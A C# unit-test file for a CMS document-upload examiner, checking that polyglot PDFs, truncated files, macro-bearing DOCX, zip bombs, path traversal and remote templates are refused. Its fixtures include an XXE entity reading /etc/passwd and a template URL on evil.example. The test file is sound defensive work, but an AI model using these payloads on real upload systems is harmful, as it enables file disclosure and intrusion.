using System.IO.Compression;
using CommsPortal.Cms.Media;
using CommsPortal.Cms.Media.Examination;

namespace CommsPortal.Cms.Tests.Media.Examination;

public sealed class DocumentExaminationTests : IDisposable
{
    private readonly MediaRig rig = new(o =>
    {
        o.MaxUnpackedBytes = 4 * 1024 * 1024;
        o.MaxArchiveEntries = 50;
    });

    public void Dispose() => rig.Dispose();

    [Fact]
    public async Task A_PDF_and_a_DOCX_are_known_by_their_content()
    {
        Assert.Equal(MediaFormat.Pdf, await rig.ExamineAsync(HostileFiles.Pdf));
        Assert.Equal(MediaFormat.Docx, await rig.ExamineAsync(HostileFiles.Docx()));
    }

    [Fact]
    public async Task A_PDF_that_does_not_begin_at_the_first_byte_is_refused()
    {
        Assert.Equal(MediaRefusal.UnsupportedType, (await rig.RefusalOfAsync([.. "xx\n"u8, .. HostileFiles.Pdf])).Reason);
    }

    [Fact]
    public async Task A_PDF_with_a_ZIP_or_a_page_inside_its_ends_is_a_polyglot()
    {
        byte[] withZip = [.. HostileFiles.Pdf, .. HostileFiles.Zip("a", "b"), .. "\n%%EOF"u8];
        byte[] withPage = [.. HostileFiles.Pdf, .. "<html>"u8];
        byte[] pageFirst = [.. "%PDF-1.4\n<html><script>x</script>\n"u8, .. HostileFiles.Pdf];
        foreach (var file in new[] { withZip, withPage, pageFirst })
            Assert.Equal(MediaRefusal.Polyglot, (await rig.RefusalOfAsync(file)).Reason);
    }

    [Fact]
    public async Task A_document_that_lost_its_end_is_refused()
    {
        Assert.Equal(MediaRefusal.Truncated, (await rig.RefusalOfAsync(HostileFiles.Pdf[..^20])).Reason);
        var docx = HostileFiles.Docx();
        Assert.Equal(MediaRefusal.Truncated, (await rig.RefusalOfAsync(docx[..^30])).Reason);
        Assert.Equal(MediaRefusal.Truncated, (await rig.RefusalOfAsync(docx[..^1])).Reason);
    }

    [Theory]
    [InlineData("word/vbaProject.bin")]
    [InlineData("word/vbaData.xml")]
    [InlineData("word/activeX/activeX1.xml")]
    [InlineData("WORD/VBAPROJECT.BIN")]
    public async Task A_DOCX_with_macros_is_refused(string part)
    {
        Assert.Equal(MediaRefusal.Macros, (await rig.RefusalOfAsync(HostileFiles.Docx(a => HostileFiles.Add(a, part, "x")))).Reason);
    }

    [Fact]
    public async Task A_DOCM_called_DOCX_is_refused()
    {
        var docm = HostileFiles.Docx(main: "application/vnd.ms-word.document.macroEnabled.main+xml");
        Assert.Equal(MediaRefusal.Macros, (await rig.RefusalOfAsync(docm)).Reason);
    }

    [Fact]
    public async Task A_ZIP_that_is_no_DOCX_is_refused()
    {
        Assert.Equal(MediaRefusal.UnsupportedType, (await rig.RefusalOfAsync(HostileFiles.Zip("a.txt", "x"))).Reason);
        Assert.Equal(MediaRefusal.UnsupportedType, (await rig.RefusalOfAsync(HostileFiles.Zip("word/document.xml", "<x/>"))).Reason);
        Assert.Equal(MediaRefusal.Damaged, (await rig.RefusalOfAsync(HostileFiles.Docx(main: "application/vnd.oasis.opendocument.text"))).Reason);
    }

    [Fact]
    public async Task A_DOCX_that_unpacks_to_too_much_is_a_bomb_even_when_its_directory_lies_about_the_size()
    {
        var bomb = HostileFiles.Docx(a => HostileFiles.Add(a, "word/media/image1.bin", new byte[8 * 1024 * 1024]));
        Assert.InRange(bomb.Length, 1, 64 * 1024);
        Assert.Equal(MediaRefusal.ArchiveBomb, (await rig.RefusalOfAsync(bomb)).Reason);
        PatchDirectorySize(bomb, "word/media/image1.bin"u8, 100);
        Assert.Contains((await rig.RefusalOfAsync(bomb)).Reason, new[] { MediaRefusal.ArchiveBomb, MediaRefusal.Damaged });
    }

    [Fact]
    public async Task A_DOCX_of_too_many_parts_is_a_bomb()
    {
        var bomb = HostileFiles.Docx(a =>
        {
            for (var i = 0; i < 60; i++)
                HostileFiles.Add(a, $"word/p{i}.xml", "<x/>");
        });
        Assert.Equal(MediaRefusal.ArchiveBomb, (await rig.RefusalOfAsync(bomb)).Reason);
    }

    [Fact]
    public async Task A_DOCX_with_entities_or_paths_that_climb_is_damaged()
    {
        var entities = HostileFiles.Docx(document: "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>");
        var climbing = HostileFiles.Docx(a => HostileFiles.Add(a, "word/../../evil.xml", "<x/>"));
        var twice = HostileFiles.Docx(a => HostileFiles.Add(a, "word/document.xml", "<x/>"));
        foreach (var file in new[] { entities, climbing, twice })
            Assert.Equal(MediaRefusal.Damaged, (await rig.RefusalOfAsync(file)).Reason);
    }

    [Fact]
    public async Task A_DOCX_that_loads_a_template_from_the_network_is_refused_and_one_with_links_is_not()
    {
        const string head = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" """;
        const string kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        var template = HostileFiles.Docx(a => HostileFiles.Add(a, "word/_rels/settings.xml.rels", $"{head}Type=\"{kind}attachedTemplate\" Target=\"https://evil.example/t.dotm\"/></Relationships>"));
        var link = HostileFiles.Docx(a => HostileFiles.Add(a, "word/_rels/document.xml.rels", $"{head}Type=\"{kind}hyperlink\" Target=\"https://hochiminhcity.gov.vn/\"/></Relationships>"));
        Assert.Equal(MediaRefusal.RemoteContent, (await rig.RefusalOfAsync(template)).Reason);
        Assert.Equal(MediaFormat.Docx, await rig.ExamineAsync(link));
    }

    [Fact]
    public async Task A_DOCX_with_something_before_or_behind_is_refused()
    {
        var docx = HostileFiles.Docx();
        Assert.Equal(MediaRefusal.Polyglot, (await rig.RefusalOfAsync([.. docx, .. "<html>"u8])).Reason);
        Assert.Equal(MediaRefusal.UnsupportedType, (await rig.RefusalOfAsync([.. "#!/bin/sh\n"u8, .. docx])).Reason);
    }

    [Fact]
    public async Task An_old_DOC_is_refused_with_the_advice_to_save_it_as_DOCX()
    {
        var refusal = await rig.RefusalOfAsync([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
        Assert.Equal(MediaRefusal.LegacyOffice, refusal.Reason);
        Assert.Contains(".docx", refusal.Message, StringComparison.Ordinal);
    }

    private static void PatchDirectorySize(byte[] zip, ReadOnlySpan<byte> name, int size)
    {
        var at = zip.AsSpan().LastIndexOf(name) - 46;
        System.Buffers.Binary.BinaryPrimitives.WriteInt32LittleEndian(zip.AsSpan(at + 24), size);
        using var check = new ZipArchive(new MemoryStream(zip));
        Assert.Equal(size, check.Entries.Single(e => e.FullName.EndsWith("image1.bin", StringComparison.Ordinal)).Length);
    }
}
